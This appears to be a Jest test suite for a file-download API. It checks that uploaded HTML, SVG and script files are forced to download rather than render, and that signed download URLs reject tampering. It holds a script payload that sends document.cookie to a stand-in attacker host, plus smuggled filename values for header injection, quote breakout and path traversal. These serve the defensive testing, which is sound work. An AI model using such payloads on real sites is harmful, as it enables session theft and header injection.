import { beforeAll, describe, expect, test } from '@jest/globals';
import { call, newPerson, type Person } from '../driver/client.ts';
import { uploadFile } from '../driver/flow.ts';

const SCRIPT = '<!doctype html><script>fetch("https://evil.example/" + document.cookie)</script>';

let person: Person;

beforeAll(async () => {
	person = await newPerson();
});

async function downloadUrlOf(mimeType: string, name: string): Promise<string> {
	const id = await uploadFile(person.token, Buffer.from(SCRIPT), { name, mimeType });
	return (await call('GET', `/v1/files/${id}`, { token: person.token })).body.data.download_url;
}

describe('a file with a script in it is downloaded and does not run:', () => {
	test.each([
		['text/html', 'page.html'],
		['text/html; charset="utf-8"', 'page.html'],
		['application/xhtml+xml', 'page.xhtml'],
		['image/svg+xml', 'picture.svg'],
		['text/xml', 'page.xml'],
		['text/javascript', 'script.js'],
		['multipart/related', 'page.mhtml'],
		['application/pdf', 'page.html'],
	])('%s', async (mimeType, name) => {
		const response = await fetch(await downloadUrlOf(mimeType, name));
		expect([response.status, await response.text()]).toEqual([200, SCRIPT]);
		expect(response.headers.get('content-disposition')).toMatch(/^attachment(;|$)/);
		expect(response.headers.get('content-type')).toBe(
			mimeType === 'application/pdf' ? mimeType : 'application/octet-stream',
		);
	});

	test.each([
		...[
			'"; filename="x.html',
			'a\r\nContent-Type: text/html\r\n\r\n<script>',
			"'; inline",
			'inline',
			'a\u202ecod.html',
		],
		...['../../x.html', '\\\\host\\x.html', '%22;x=%0d%0a', '😀'.repeat(255)],
	])('under the name %j', async (name) => {
		const response = await fetch(await downloadUrlOf('text/html', name));
		expect([response.status, response.headers.get('content-type')]).toEqual([
			200,
			'application/octet-stream',
		]);
		expect(response.headers.get('content-disposition')).toMatch(/^attachment;/);
	});
});

describe('the URL of a download', () => {
	let url: URL;

	beforeAll(async () => {
		url = new URL(await downloadUrlOf('text/html', 'page.html'));
	});

	async function statusWith(change: (url: URL) => void): Promise<number> {
		const changed = new URL(url);
		change(changed);
		const response = await fetch(changed);
		await response.arrayBuffer();
		return response.status;
	}

	test('works unchanged', async () => {
		expect(await statusWith(() => undefined)).toBe(200);
	});

	test.each(['response-content-disposition', 'response-content-type'])(
		'is refused with another %s, or without one',
		async (name) => {
			expect(url.searchParams.has(name)).toBe(true);
			for (const value of ['inline', 'text/html', '']) {
				expect(await statusWith(({ searchParams }) => searchParams.set(name, value))).toBe(403);
			}
			expect(await statusWith(({ searchParams }) => searchParams.delete(name))).toBe(403);
			expect(await statusWith(({ searchParams }) => searchParams.append(name, 'text/html'))).toBe(403);
		},
	);

	test('does not work for another object, or without its signature', async () => {
		expect(
			await statusWith((changed) => {
				changed.pathname = changed.pathname.replace(/.$/, 'x');
			}),
		).toBe(403);
		expect(
			await statusWith((changed) => {
				changed.search = '';
			}),
		).toBe(403);
		expect(await statusWith(({ searchParams }) => searchParams.delete('X-Amz-Signature'))).toBe(403);
	});
});
